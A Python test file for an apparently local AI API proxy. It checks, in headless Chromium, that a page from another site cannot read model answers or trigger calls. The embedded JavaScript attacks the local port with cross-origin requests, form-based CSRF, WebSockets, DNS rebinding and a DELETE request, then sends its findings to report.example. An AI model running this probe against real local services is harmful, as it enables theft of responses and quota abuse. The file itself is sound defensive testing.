"""A real browser on a page of another site: it reads no answer of the house's, and has it spend no call.

Debian's Chromium, headless. Each page tries all that a page can, and reports what it got to the site that it is from.
Names that end in ``.example`` lead to this machine, so that the browser itself has no reason to hinder it: what is
shown here is that the house does.
"""

import json
import os
import re
import signal
import subprocess
from contextlib import suppress
from functools import partial
from pathlib import Path

import pytest
import trio
from faults.upstream import CHAT, CHAT_MODEL, Front, open_front

CHROMIUM = Path("/usr/bin/chromium")
PATIENCE = 90
HOUSE_RULES = "MAP *.example 127.0.0.1, MAP localhost 127.0.0.1, EXCLUDE 127.0.0.1, MAP * ~NOTFOUND"
FLAGS = [
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-dev-shm-usage"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-extensions"),
    *("--no-default-browser-check", "--disable-default-apps", "--metrics-recording-only", "--no-pings"),
    "--remote-debugging-port=0",  # without it a headless browser ends with the page's last word
]
SPOKEN = ["/chat/completions", "/responses", "/v1/messages", "/embeddings"]
ATTEMPTS = 10 + 5 * 11
"""How many things a page tries."""

SECRET = "Hello."
"""What the model says, which no stranger may read."""

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="/usr/bin/chromium is missing, which .ci/run installs")


SCRIPT = """
const base = "%(base)s", chat = %(chat)s, found = {};
const body = JSON.stringify(chat);
async function attempt(name, work) {
  try { found[name] = await work(); } catch (error) { found[name] = "refused: " + error.name; }
}
async function read(answer) { return answer.type + " " + answer.status + " " + (await answer.text()); }
function asked(path, init) { return async () => read(await fetch(base + path, init)); }
function loaded(tag, path) {
  return () => new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done("loaded");
    element.onerror = () => done("refused: error");
    element.src = base + path;
    document.body.append(element);
  });
}
function framed(make) {
  return () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + Math.random();
    document.body.append(frame);
    let seen = 0;
    frame.onload = () => {
      if (++seen < make.loads) return;
      try { done("read: " + frame.contentDocument.body.textContent); } catch (error) { done("refused: " + error.name); }
    };
    make(frame);
    setTimeout(() => done("refused: nothing"), 3000);
  });
}
function form(path, kind, fields) {
  const make = (frame) => {
    const form = document.createElement("form");
    Object.assign(form, {action: base + path, method: "post", enctype: kind, target: frame.name});
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, {type: "hidden", name, value});
      form.append(input);
    }
    document.body.append(form);
    form.submit();
  };
  make.loads = 1;
  return framed(make);
}
function shown(path) {
  const make = (frame) => { frame.src = base + path; };
  make.loads = 1;
  return framed(make);
}
function socket(path) {
  return () => new Promise((done) => {
    const opened = new WebSocket(base.replace("http", "ws") + path);
    opened.onopen = () => { opened.send(body); done("opened"); };
    opened.onerror = () => done("refused: error");
  });
}
function events(path) {
  return () => new Promise((done) => {
    const source = new EventSource(base + path);
    source.onmessage = () => done("read");
    source.onerror = () => { source.close(); done("refused: error"); };
  });
}
async function all() {
  const json = {"Content-Type": "application/json"};
  const before = body.slice(0, -1) + ', "x": "', after = '"}';
  await attempt("get", asked("/v1/models", {}));
  await attempt("get tags", asked("/api/tags", {}));
  await attempt("get no-cors", asked("/v1/models", {mode: "no-cors"}));
  await attempt("get credentials", asked("/v1/models", {credentials: "include"}));
  for (const path of ["/v1/chat/completions", "/v1/responses", "/v1/messages", "/api/chat", "/api/generate"]) {
    await attempt("json " + path, asked(path, {method: "POST", headers: json, body}));
    await attempt("text " + path, asked(path, {method: "POST", body}));
    await attempt("no-cors " + path, asked(path, {method: "POST", mode: "no-cors", body}));
    await attempt("untyped " + path, asked(path, {method: "POST", mode: "no-cors", body: new Blob([body])}));
    await attempt("keepalive " + path, asked(path, {method: "POST", mode: "no-cors", keepalive: true, body}));
    const silent = {method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", body};
    await attempt("referrer " + path, asked(path, silent));
    await attempt("beacon " + path, async () => navigator.sendBeacon(base + path, body) ? "sent" : "refused");
    await attempt("form text " + path, form(path, "text/plain", {[before]: after}));
    await attempt("form " + path, form(path, "application/x-www-form-urlencoded", chat));
    await attempt("form data " + path, form(path, "multipart/form-data", chat));
    await attempt("socket " + path, socket(path));
  }
  await attempt("image", loaded("img", "/v1/models"));
  await attempt("script", loaded("script", "/v1/models"));
  await attempt("frame", shown("/v1/models"));
  await attempt("events", events("/v1/models"));
  await attempt("delete", asked("/api/delete", {method: "DELETE", headers: json, body: '{"model": "gpt-4o"}'}));
  const sandbox = document.createElement("iframe");
  sandbox.sandbox = "allow-scripts";
  sandbox.srcdoc = `<script>fetch("${base}/v1/models").then((a) => a.text(), () => "refused")
    .then((text) => parent.postMessage(text, "*"))<` + `/script>`;
  await attempt("sandbox", () => new Promise((done) => {
    addEventListener("message", (event) => done(event.data));
    document.body.append(sandbox);
    setTimeout(() => done("refused: nothing"), 3000);
  }));
}
all().then(() => fetch("%(report)s", {method: "POST", mode: "no-cors", body: JSON.stringify(found)}));
"""


class Site:
    """A web site of somebody else's, at a port of its own: one page, and a place for the page to report to.

    ``house`` is the port to which all else is passed on, byte by byte: a name of the site's that has been pointed at
    this machine after its page was fetched (DNS rebinding).
    """

    def __init__(self, house: int) -> None:
        self.page = b""
        self.house = house
        self.found: dict[str, str] | None = None
        self.told = trio.Event()

    async def serve(self, stream: trio.SocketStream) -> None:
        """One request of the site's own, or a connection to the house."""
        async with stream:
            data = b""
            while b"\r\n\r\n" not in data:
                if not (more := await stream.receive_some(65536)):
                    return
                data += more
            head, _, body = data.partition(b"\r\n\r\n")
            if head.startswith(b"GET / "):
                await self._say(stream, self.page)
            elif head.startswith(b"POST /found "):
                [length] = re.findall(rb"(?i)content-length: (\d+)", head)
                while len(body) < int(length):
                    body += await stream.receive_some(65536)
                self.found = json.loads(body)
                self.told.set()
                await self._say(stream, b"")
            elif head.startswith(b"GET /favicon.ico "):
                await self._say(stream, b"")
            else:
                await self._pass_on(stream, data)

    @staticmethod
    async def _say(stream: trio.SocketStream, page: bytes) -> None:
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
        with suppress(trio.BrokenResourceError):
            await stream.send_all(head % len(page) + page)

    async def _pass_on(self, stream: trio.SocketStream, data: bytes) -> None:
        async def pump(source: trio.SocketStream, sink: trio.SocketStream) -> None:
            with suppress(trio.BrokenResourceError, trio.ClosedResourceError):
                async for piece in source:
                    await sink.send_all(piece)
            nursery.cancel_scope.cancel()

        house = await trio.open_tcp_stream("127.0.0.1", self.house)
        async with house, trio.open_nursery() as nursery:
            await house.send_all(data)
            nursery.start_soon(pump, stream, house)
            nursery.start_soon(pump, house, stream)


async def findings(directory: Path, front: Front, page: str, base: str, *, rebound: bool = False) -> dict[str, str]:
    """What a page of the host ``page`` gets from ``base``; ``{site}`` and ``{house}`` stand for the two ports.

    ``rebound`` has the page's own address lead to the house, but for the page.
    """
    site = Site(front.port)
    async with trio.open_nursery() as nursery:
        [listener] = await nursery.start(partial(trio.serve_tcp, site.serve, 0, host="127.0.0.1"))
        ports = {"site": listener.socket.getsockname()[1], "house": front.port}
        base = base.format(**ports)
        told = {"base": base, "chat": json.dumps(CHAT | {"stream": False})}
        report = f"http://report.example:{ports['site']}/found"
        site.page = f"<!doctype html><body><script>{SCRIPT % {**told, 'report': report}}</script>".encode()
        rules = f"MAP rebound.example:{front.port} 127.0.0.1:{ports['site']}, " if rebound else ""
        process = await trio.lowlevel.open_process(
            [
                *(str(CHROMIUM), *FLAGS, f"--host-resolver-rules={rules}{HOUSE_RULES}"),
                *(f"--user-data-dir={directory / 'profile'}", page.format(**ports)),
            ],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
            cwd=directory,
            env={**os.environ, "TMPDIR": "."},  # for a socket, whose whole path may be longer than one can be
        )
        try:
            with trio.fail_after(PATIENCE):
                await site.told.wait()
        finally:
            with suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            with trio.CancelScope(shield=True):
                await process.wait()
        nursery.cancel_scope.cancel()
    assert site.found is not None
    return site.found


def spent(front: Front) -> int:
    """How many calls Copilot has got."""
    return sum(len(front.upstream.asked(path)) for path in SPOKEN)


STRANGERS = [
    ("http://site.example:{site}/", "http://127.0.0.1:{house}", False),
    ("http://site.example:{site}/", "http://localhost:{house}", False),
    ("http://site.example:{site}/", "http://other.example:{house}", False),
    ("http://rebound.example:{house}/", "http://rebound.example:{house}", True),
]


@pytest.mark.parametrize("page, base, rebound", STRANGERS, ids=["number", "localhost", "name", "rebound"])
async def test_a_page_of_another_site_reads_no_answer_and_has_no_call_spent(
    tmp_path: Path, page: str, base: str, rebound: bool
) -> None:
    async with open_front(tmp_path, patience=PATIENCE + 30) as front:
        found = await findings(tmp_path, front, page, base, rebound=rebound)
        calls = spent(front)

    assert len(found) == ATTEMPTS
    assert calls == 0
    assert {name: got for name, got in found.items() if SECRET in got or CHAT_MODEL in got or "data" in got} == {}
    assert {name: got for name, got in found.items() if got in {"opened", "loaded", "read"}} == {}
    answered = {name: got for name, got in found.items() if re.match(r"(basic|cors) ", got)}
    assert {got.split()[1] for got in answered.values()} <= ({"403"} if rebound else set())


async def test_a_page_of_this_machine_reads_answers_and_may_spend_calls(tmp_path: Path) -> None:
    async with open_front(tmp_path, patience=PATIENCE + 30) as front:
        found = await findings(tmp_path, front, "http://localhost:{site}/", "http://127.0.0.1:{house}")
        calls = spent(front)

    assert len(found) == ATTEMPTS
    assert SECRET in found["json /v1/chat/completions"]
    assert CHAT_MODEL in found["get"]
    assert "415" in found["text /v1/chat/completions"]
    assert calls >= 3
